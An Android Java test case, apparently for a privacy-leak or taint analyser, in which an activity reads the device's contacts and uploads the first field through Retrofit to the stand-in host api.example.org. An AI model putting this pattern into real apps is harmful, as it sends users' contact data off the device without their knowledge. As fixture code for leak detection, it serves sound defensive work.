// A Retrofit interface with annotations; there is no code of it to follow.
package cases.sink_retrofit;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        retrofit2.Retrofit retrofit = new retrofit2.Retrofit.Builder().baseUrl("https://api.example.org/").build();
        Api api = retrofit.create(Api.class);
        try {
            api.upload("7", rows.getString(0)).execute();
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
